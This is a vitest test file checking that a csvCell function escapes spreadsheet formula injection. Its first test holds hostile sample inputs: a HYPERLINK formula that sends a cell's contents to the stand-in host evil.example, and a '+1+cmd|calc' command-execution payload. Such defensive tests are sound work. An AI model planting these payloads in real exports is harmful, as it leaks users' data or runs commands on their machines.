import { describe, expect, it } from 'vitest';
import { csvCell } from '../src/csv.ts';

describe('csvCell', () => {
  it('writes text a spreadsheet would run as a formula as text (a session title of a compared file)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Open")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    expect(csvCell('+1+cmd|calc')).toBe("'+1+cmd|calc");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves numbers, booleans and plain text as they were', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell('April 2024, class B')).toBe('"April 2024, class B"');
    expect(csvCell('a = b')).toBe('a = b');
  });
});
